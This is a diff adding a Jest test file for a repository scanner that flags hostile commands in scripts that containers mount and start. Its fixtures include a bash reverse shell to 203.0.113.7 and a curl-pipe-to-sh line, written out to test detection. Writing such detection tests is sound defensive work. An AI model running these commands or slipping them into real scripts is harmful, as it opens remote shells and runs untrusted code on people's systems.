@@ -1,0 +1,118 @@
+import { describe, expect, it } from '@jest/globals';
+import type { Files } from '../properties/repository.ts';
+import { scanFiles } from '../properties/soundness.ts';
+
+const FETCHES = '#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/agent.sh | sh\nexec app\n';
+const CONNECTS = '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n';
+const UNCHECKED = '#!/bin/sh\npip install --trusted-host pypi.example.com app==1.2.3\n';
+
+const service = (options: string, name = 'app') =>
+  `  ${name}:\n    image: ghcr.io/acme/app:1.4\n    ${options.replaceAll('\n', '\n    ')}\n`;
+const compose = (...services: readonly string[]) => `services:\n${services.join('')}`;
+
+async function told(files: Files): Promise<readonly string[]> {
+  const { findings } = await scanFiles(files);
+  return findings
+    .filter(({ ruleId }) => ruleId === 'command-hidden-code' || ruleId === 'command-downloads-code')
+    .map(({ ruleId, severity, span, message }) => {
+      const line = span.file.text.slice(0, span.start).split('\n').length;
+      return `${ruleId} ${severity} ${span.file.path}:${line} ${/(?: at each start| in the mounted file [^\s,]+?(?=,|\.?$))/.exec(message)?.[0].trim()}`;
+    });
+}
+
+const FOUND = (path: string) => [`command-downloads-code high scripts/run.sh:3 in the mounted file ${path}`];
+
+describe('a script of the repository that a container starts', () => {
+  it.each([
+    ['in the place of a program', 'volumes: ["./scripts/run.sh:/usr/local/bin/run"]', '/usr/local/bin/run'],
+    ['named by a command', 'volumes: ["./scripts:/scripts"]\ncommand: sh /scripts/run.sh', '/scripts/run.sh'],
+    ['named by an entrypoint', 'volumes: ["./:/srv/:ro"]\nentrypoint: ["/srv/scripts/run.sh"]', '/srv/scripts/run.sh'],
+    [
+      'named in a text for a shell',
+      `volumes: [".:/srv"]\ncommand: sh -c 'cd /srv && ./scripts/run.sh -x'`,
+      '/srv/scripts/run.sh',
+    ],
+    [
+      'named by a health check',
+      'volumes: [".:/srv"]\nhealthcheck: { test: ["CMD", "/srv/scripts/run.sh"] }',
+      '/srv/scripts/run.sh',
+    ],
+    [
+      'named by a hook',
+      'volumes: [".:/srv"]\npost_start: [{ command: "/srv/scripts/../scripts/run.sh" }]',
+      '/srv/scripts/run.sh',
+    ],
+    [
+      'at a place where the image starts it',
+      'volumes: ["./scripts:/docker-entrypoint-initdb.d"]',
+      '/docker-entrypoint-initdb.d/run.sh',
+    ],
+    ['in the long form', 'volumes: [{ type: bind, source: ./scripts/run.sh, target: /run.sh }]', '/run.sh'],
+  ])('is read: %s', async (_how, options, path) => {
+    expect(await told({ 'compose.yaml': compose(service(options)), 'scripts/run.sh': FETCHES })).toEqual(FOUND(path));
+  });
+
+  it.each([
+    ['docker run', { 'up.sh': 'docker run -d -v "$PWD/scripts/run.sh:/run.sh" ghcr.io/acme/app:1.4 /run.sh\n' }],
+    [
+      'a workflow',
+      {
+        '.github/workflows/a.yml':
+          'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker run -v ./scripts/run.sh:/run.sh ghcr.io/acme/app:1.4 /run.sh\n',
+      },
+    ],
+    [
+      'a unit of Podman',
+      { 'app.container': '[Container]\nImage=ghcr.io/acme/app:1.4\nVolume=./scripts/run.sh:/run.sh\n' },
+    ],
+    [
+      'a dev container',
+      {
+        '.devcontainer.json':
+          '{ "image": "ghcr.io/acme/dev:1.4", "mounts": ["type=bind,source=${localWorkspaceFolder}/scripts/run.sh,target=/run.sh"] }',
+      },
+    ],
+  ])('is read: for %s', async (_format, files) => {
+    const all = await told({ ...files, 'scripts/run.sh': FETCHES });
+    expect(all).toEqual([expect.stringContaining('scripts/run.sh:3 in the mounted file /run.sh')]);
+  });
+
+  it.each([
+    [CONNECTS, ['command-hidden-code critical scripts/run.sh:2 in the mounted file /run.sh']],
+    [UNCHECKED, ['command-downloads-code high scripts/run.sh:2 in the mounted file /run.sh']],
+    ['#!/bin/sh\npip install app\n', []],
+    ['#!/usr/bin/env python3\n"""curl https://get.example.com | sh"""\n', []],
+    ['#!/bin/sh\ncurl -fsS https://get.example.com/health\n', []],
+    ['#!/bin/sh\n# curl https://get.example.com | sh\nexec app\n', []],
+  ])('is judged as a command is: %j', async (text, expected) => {
+    const files = { 'compose.yaml': compose(service('volumes: ["./scripts/run.sh:/run.sh"]')), 'scripts/run.sh': text };
+    expect(await told(files)).toEqual(expected);
+  });
+
+  it.each([
+    ['in a folder of a source, which nothing starts', 'volumes: ["./:/srv"]\ncommand: ["app"]'],
+    ['of a folder that is mounted elsewhere', 'volumes: ["./other:/scripts"]\ncommand: sh /scripts/run.sh'],
+    ['of the image', 'command: sh /scripts/run.sh'],
+    ['outside of the repository', 'volumes: ["../scripts/run.sh:/run.sh"]'],
+  ])('is left alone: %s', async (_how, options) => {
+    const files = { 'compose.yaml': compose(service(options)), 'scripts/run.sh': FETCHES, 'other/a.sh': 'exec app\n' };
+    expect(await told(files)).toEqual([]);
+  });
+
+  it('is read once for several services', async () => {
+    const options = 'volumes: ["./scripts/run.sh:/run.sh"]';
+    const files = { 'compose.yaml': compose(service(options), service(options, 'b')), 'scripts/run.sh': FETCHES };
+    expect(await told(files)).toEqual(FOUND('/run.sh'));
+  });
+
+  it('can have a comment that accepts the finding', async () => {
+    const commented = FETCHES.replace('curl', '# hullcheck-ignore command-downloads-code -- a test agent\ncurl');
+    const files = {
+      'compose.yaml': compose(service('volumes: ["./scripts/run.sh:/run.sh"]')),
+      'scripts/run.sh': commented,
+    };
+    const { findings } = await scanFiles(files);
+    const [found] = findings.filter(({ ruleId }) => ruleId === 'command-downloads-code');
+    expect(found?.suppressedBy?.reason).toBe('a test agent');
+  });
+});
